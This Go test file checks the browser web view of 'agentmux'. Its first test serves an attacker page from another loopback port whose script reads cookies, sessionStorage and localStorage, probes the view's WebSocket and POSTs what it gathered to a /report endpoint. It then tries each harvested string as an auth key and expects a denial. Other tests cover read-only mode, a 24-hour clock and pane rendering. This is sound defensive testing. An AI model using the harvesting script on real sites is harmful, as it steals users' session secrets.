package web

// In real Chromium: what another local user's page on another port of the same host
// can get from a browser that has the web view open (everything its server receives
// and everything its script can read), tried as keys against the view; the read-only
// page's form; the conversation's clock; and the first load right after the view
// starts, many times, every terminal drawn.

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentmux/agentmux/session"
	"github.com/agentmux/agentmux/store"
)

// attacker is another user's server on another loopback port: it records every
// request's headers and what its page's script reports.
type attacker struct {
	mu   sync.Mutex
	seen []string
	got  chan struct{}
}

func newAttacker(t *testing.T, view string) (*attacker, string) {
	a := &attacker{got: make(chan struct{}, 1)}
	page := `<!doctype html><title>elsewhere</title><script>
(async () => {
  const out = {cookie: document.cookie, session: JSON.stringify(Object.entries(sessionStorage)),
    local: JSON.stringify(Object.entries(localStorage))};
  try { await fetch('http://` + view + `/', {credentials: 'include', mode: 'no-cors'}); } catch (e) {}
  out.ws = await new Promise(res => { try { const ws = new WebSocket('ws://` + view + `/ws');
    ws.onopen = () => res('open'); ws.onerror = () => res('refused'); } catch (e) { res('threw') } });
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
})();</script>`
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		for k, vs := range r.Header {
			for _, v := range vs {
				a.seen = append(a.seen, k+": "+v)
			}
		}
		a.mu.Unlock()
		if r.URL.Path == "/report" {
			b, _ := io.ReadAll(r.Body)
			a.mu.Lock()
			a.seen = append(a.seen, string(b))
			a.mu.Unlock()
			select {
			case a.got <- struct{}{}:
			default:
			}
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, page)
	}))
	t.Cleanup(srv.Close)
	return a, srv.URL + "/"
}

// candidates is every string the attacker holds that could be a key: each run of
// characters a token, a secret or a cookie value is made of, and each whole header.
func (a *attacker) candidates() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []string
	word := regexp.MustCompile(`[0-9A-Za-z_\-]{16,}`)
	for _, s := range a.seen {
		out = append(out, s)
		out = append(out, word.FindAllString(s, -1)...)
		if v, ok := strings.CutPrefix(s, "Cookie: "); ok {
			for _, kv := range strings.Split(v, "; ") {
				_, val, _ := strings.Cut(kv, "=")
				out = append(out, val)
			}
		}
	}
	return out
}

// cookieHeader is the Cookie header the attacker's server received, if any.
func (a *attacker) cookieHeader() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, s := range a.seen {
		if v, ok := strings.CutPrefix(s, "Cookie: "); ok {
			return v
		}
	}
	return ""
}

func TestBrowserOtherPortGetsNoKey(t *testing.T) {
	r := newRig(t, Options{Control: true}, "alice")
	ctx := r.tab(r.url())
	r.waitJS(ctx, `agentmux.panes().length === 1 && document.getElementById('conn').textContent === 'live'`)
	secret := eval[string](t, ctx, `localStorage.getItem('agentmux.page') || ''`)
	require.Len(t, secret, 64, "the page keeps its secret in localStorage")

	atk, other := newAttacker(t, r.srv.Addr())
	r.tab(other)
	select {
	case <-atk.got:
	case <-time.After(30 * time.Second):
		t.Fatal("the other port's page never reported")
	}
	atk.mu.Lock()
	seen := strings.Join(atk.seen, "\n")
	atk.mu.Unlock()
	assert.NotContains(t, seen, secret, "the page's secret reached the other port")
	assert.NotContains(t, seen, "agentmux_web", "a cookie of the view reached the other port")
	assert.Contains(t, seen, `"ws":"refused"`, "the other port's page opened the view's socket")

	// Everything the attacker holds, tried as the view's key from outside a browser
	// (where any Origin can be claimed), with the cookies it received sent along.
	origin := "http://" + r.srv.Addr()
	tried := 0
	for _, c := range atk.candidates() {
		for _, auth := range []authFrame{{T: "auth", Token: c}, {T: "auth", Page: c}} {
			b, _ := json.Marshal(auth)
			dctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			h := http.Header{"Origin": {origin}}
			if ck := atk.cookieHeader(); ck != "" {
				h.Set("Cookie", ck)
			}
			conn, _, err := websocket.Dial(dctx, "ws://"+r.srv.Addr()+"/ws", &websocket.DialOptions{HTTPHeader: h})
			require.NoError(t, err)
			require.NoError(t, conn.Write(dctx, websocket.MessageText, b))
			_, msg, err := conn.Read(dctx)
			require.NoError(t, err)
			assert.Contains(t, string(msg), `"t":"denied"`, "a key from the other port opened the view: %s", c)
			conn.CloseNow()
			cancel()
			tried++
		}
	}
	t.Logf("the other port received %d headers and reports; %d keys tried, none opened the view", len(atk.seen), tried)
	assert.Empty(t, r.proc(1).Peek(), "nothing was typed into the pane")
}

func TestBrowserReadOnlyShowsNoForm(t *testing.T) {
	r := newRig(t, Options{}, "alice")
	ctx := r.tab(r.url())
	r.waitJS(ctx, `agentmux.panes().length === 1 && document.getElementById('mode').textContent === 'read-only'`)
	assert.True(t, eval[bool](t, ctx, `document.getElementById('sendform').offsetParent === null`), "the send form is hidden")
	assert.True(t, eval[bool](t, ctx, `document.getElementById('msg').offsetParent === null`), "the message box is hidden")
	assert.Contains(t, eval[string](t, ctx, `document.getElementById('side').innerText`), "read-only")
	assert.True(t, eval[bool](t, ctx, `document.getElementById('readonly').offsetParent !== null`), "read-only is said where the form would be")

	c := newRig(t, Options{Control: true}, "bob")
	cctx := c.tab(c.url())
	c.waitJS(cctx, `agentmux.panes().length === 1 && document.getElementById('sendform').offsetParent !== null`)
	assert.True(t, eval[bool](t, cctx, `document.getElementById('readonly').offsetParent === null`))
}

func TestBrowserClockIs24Hour(t *testing.T) {
	st, err := store.Open(filepath.Join(t.TempDir(), "agentmux.db"))
	require.NoError(t, err)
	defer st.Close()
	// A message from an afternoon of an earlier run: a 12-hour clock shows 3:04:05 PM.
	afternoon := time.Date(2026, 1, 2, 15, 4, 5, 0, time.Local)
	require.NoError(t, st.Insert(store.Message{ID: "m1", Session: "test", From: "alice", To: "bob", Kind: "message",
		Body: "an afternoon message", Seq: 1, Queued: afternoon.UnixMilli()}))
	r := newRig(t, Options{Store: st}, "alice", "bob")
	require.NoError(t, r.sess.Send("ops", "bob", "and one now", session.SendOptions{}))
	ctx := r.tab(r.url())
	r.waitJS(ctx, `[...document.querySelectorAll('#conv li')].some(li => li.textContent.includes('and one now'))`)
	times := eval[[]string](t, ctx, `[...document.querySelectorAll('#conv li .time')].map(e => e.textContent)`)
	require.NotEmpty(t, times)
	assert.Equal(t, "15:04:05", times[0])
	for _, tm := range times {
		assert.Regexp(t, `^([01][0-9]|2[0-3]):[0-5][0-9]:[0-5][0-9]$`, tm)
	}
}

// The first load of a view that just started, many times: every terminal is drawn
// (the rows a person sees, not only the terminal's buffer), while the panes print.
func TestBrowserFirstLoadDrawsEveryPane(t *testing.T) {
	needBrowser(t)
	for i := range 20 {
		r := newRig(t, Options{}, "alice", "bob")
		ctx := r.tab(r.url())
		r.proc(1).Print("first load " + itoa(i) + " alice\r\n")
		r.proc(2).Print("first load " + itoa(i) + " bob\r\n")
		rows := func(pane int) string {
			return `(document.querySelector('.pane[data-pane="` + itoa(pane) + `"] .xterm-rows') || {innerText: ''}).innerText`
		}
		r.waitJS(ctx, rows(1)+`.includes('first load `+itoa(i)+` alice') && `+rows(1)+`.includes('alice ready')`)
		r.waitJS(ctx, rows(2)+`.includes('first load `+itoa(i)+` bob') && `+rows(2)+`.includes('bob ready')`)
		r.srv.Close()
	}
}
